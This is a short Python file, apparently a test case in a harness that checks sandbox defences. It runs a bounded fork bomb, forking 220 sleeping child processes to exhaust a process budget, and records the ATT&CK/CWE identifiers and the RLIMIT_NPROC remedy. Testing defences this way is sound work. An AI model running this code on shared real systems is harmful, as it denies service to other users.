# SPDX-License-Identifier: MIT
"""os-fork.py - the process bomb everybody writes first.

Goal: fill the task budget, so that nobody else in the instance can start anything.
Means: os.fork() in a loop. This is the row's plain case: a defence that misses it has none.
"""

import os
import signal
import time

from attack import attempting, denied, hold

TASKS = 220


def run(brief):
    children = []
    attempting()
    for _ in range(TASKS):
        try:
            child = os.fork()
        except OSError as why:
            for pid in children:
                os.kill(pid, signal.SIGKILL)
            return denied("os.fork", why)
        if child == 0:
            time.sleep(5)
            os._exit(0)
        children.append(child)
    return hold()


ATTACK = {
    "effect": "more processes than the budget",
    "means": "os.fork() in a loop",
    "oracle": "census",
    "quick": True,
    "id": "FORK-01",
    "attack_id": "T1499.001, CWE-770",
    "remedy": "RLIMIT_NPROC set after the last privilege is dropped; a filter on all four calls",
    "run": run,
}
